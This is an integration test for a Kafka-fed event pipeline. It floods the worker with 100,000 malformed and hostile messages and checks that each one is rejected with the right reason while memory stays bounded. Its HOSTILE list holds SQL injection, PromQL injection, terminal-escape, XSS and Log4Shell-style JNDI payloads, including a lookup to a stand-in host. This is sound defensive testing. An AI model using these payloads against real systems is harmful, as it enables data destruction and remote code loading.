"""A flood of 100,000 malformed, oversized, wrongly-keyed and hostile messages interleaved
with a valid scenario: the valid events end exact, every bad one is in the dead-letter
topic and in ``invalid_events`` with its reason, the counters agree, the worker's memory
stays bounded (RSS measured before and after, printed)."""

from __future__ import annotations

import json
import random
from collections import Counter

import pytest

from pipeline.feed.scenario import build_scenario
from tests.integration.faultkit import Expected, Stopwatch, assert_exact, produce_raw, read_dead_letters, rss_mb
from tests.integration.workerproc import WorkerProcess, isolated_settings, sql_json

pytestmark = pytest.mark.integration

BAD = 100_000
# Measured growth: +76 to +214 MB with CPython's default GC thresholds; +355 MB once the
# worker collects its young generation every 50,000 allocations (GC_THRESHOLD in
# worker.py): garbage cycles holding payloads live longer. The bound is generous for that.
RSS_GROWTH_BOUND_MB = 500

HOSTILE = [
    "'; DROP TABLE case_events; --",
    "1) OR 1=1 UNION SELECT password FROM system.users --",
    'x"} or vector(1) #',
    '{__name__=~".+"}',
    "sum by (instance) (up) > 0",
    "\x00\x07\x1b[31mred\r\n\t",
    "${jndi:ldap://evil/x}",
    "<script>alert(1)</script>",
]


def _event(rng: random.Random, n: int) -> dict:
    """A well-formed ``received`` event (made invalid by the caller)."""
    return {
        "schema_version": 1, "event_id": f"flood-{n}", "event_type": "received", "case_id": f"flood-case-{n}",
        "unit_id": "TTPVHCC", "occurred_at": "2025-03-03T09:00:00+07:00", "procedure_code": "1.0001",
        "sector": "ho_tich", "channel": "direct", "due_at": "2025-03-10T17:00:00+07:00",
    }


def _bad(rng: random.Random, n: int) -> tuple[bytes | None, bytes, str]:
    """(key, value, the reason the contract must give), by kind."""
    kind = n % 12
    hostile = HOSTILE[n % len(HOSTILE)]
    e = _event(rng, n)
    key = e["case_id"].encode()
    if kind == 0:
        return key, b"\xff\xfe\xfa" + hostile.encode() + b"\xc3\x28", "not_utf8"
    if kind == 1:
        depth = 2000 + n % 3000
        return key, b'{"a":' * depth + b"1" + b"}" * depth, "invalid_json"
    if kind == 2:
        return key, json.dumps(e).encode()[:-3] + hostile.encode(), "invalid_json"
    if kind == 3:
        return key, json.dumps([e, hostile]).encode(), "not_object"
    if kind == 4:
        return b"wrong-" + key, json.dumps(e).encode(), "key_mismatch"
    if kind == 5:
        e["event_type"] = hostile
        return key, json.dumps(e).encode(), "unknown_event_type"
    if kind == 6:
        e["unit_id"] = hostile * 20  # a label-looking string, far longer than 64
        return key, json.dumps(e).encode(), "invalid_field"
    if kind == 7:
        e["sector"] = "x" * 30_000  # a huge string inside the size limit
        return key, json.dumps(e, ensure_ascii=False).encode(), "invalid_field"
    if kind == 8:
        del e["case_id"]
        return None, json.dumps(e).encode(), "missing_field"
    if kind == 9:
        e["schema_version"] = hostile
        return key, json.dumps(e).encode(), "unsupported_version"
    if kind == 10:
        e["occurred_at"] = hostile
        return key, json.dumps(e).encode(), "invalid_timestamp"
    if n % 100 == 11:  # 1 in 100 of kind 11: oversized (over 64 KiB)
        e["note"] = hostile + "y" * 70_000
        return key, json.dumps(e).encode(), "too_large"
    return key, b"", "invalid_json"  # empty value


def test_100k_hostile_messages_interleaved_with_valid_ones(infra):
    rng = random.Random(13)
    scenario = build_scenario(seed=34, cases=800, malformed_rate=0.0)
    expected = Expected.of(scenario)
    # sql_max_rows: the check below reads every invalid_events row (100,000) through POST /sql
    settings = isolated_settings(infra, "flood", clock="event", sql_max_rows=1_000_000)
    valid = [(json.loads(line)["case_id"].encode(), line) for line in scenario.lines]
    bad = [_bad(rng, n) for n in range(BAD)]
    # interleave: the valid lines keep their order, bad ones fall in between
    items, reasons, i = [], [], 0
    step = BAD // len(valid) + 1
    for key, value in valid:
        for key_b, value_b, reason in bad[i:i + step]:
            items.append((key_b, value_b))
            reasons.append(reason)
        i += step
        items.append((key, value))
        reasons.append(None)
    for key_b, value_b, reason in bad[i:]:
        items.append((key_b, value_b))
        reasons.append(reason)
    assert sum(r is not None for r in reasons) == BAD

    worker = WorkerProcess(settings).start()
    try:
        rss_before = rss_mb(worker.process.pid)
        sent = Stopwatch()
        placed = produce_raw(settings, items)
        produced_s = sent.seconds()
        worker.wait_processed(len(items), timeout=900)
        processed_s = sent.seconds()
        rss_after = rss_mb(worker.process.pid)
        print(f"\n[flood] {BAD:,} bad + {len(valid):,} valid messages: produced in {produced_s:.1f}s, processed in "
              f"{processed_s:.1f}s; worker RSS {rss_before:.0f} MB before, {rss_after:.0f} MB after "
              f"(+{rss_after - rss_before:.0f} MB)")
        assert rss_after - rss_before < RSS_GROWTH_BOUND_MB

        expected_bad = {placed[k]: r for k, r in enumerate(reasons) if r is not None}
        assert_exact(worker, settings, expected)
        # the counters
        by_reason = Counter(expected_bad.values())
        for reason, count in by_reason.items():
            assert worker.counter("tthc_invalid_events_total", reason=reason) == count, reason
        assert worker.counter("tthc_events_total", outcome="invalid") == BAD
        # invalid_events: one row per bad message, with its reason
        rows = sql_json(settings, "SELECT kafka_partition AS p, kafka_offset AS o, reason FROM invalid_events FINAL")
        assert {(int(r["p"]), int(r["o"])): r["reason"] for r in rows} == expected_bad
        assert len(rows) == BAD
        # the dead-letter topic: each bad message once, with its reason
        letters = read_dead_letters(settings, BAD, timeout=300)
        assert len(letters) == BAD
        assert {(d.partition, d.offset): d.reason for d in letters} == expected_bad
    finally:
        worker.stop()
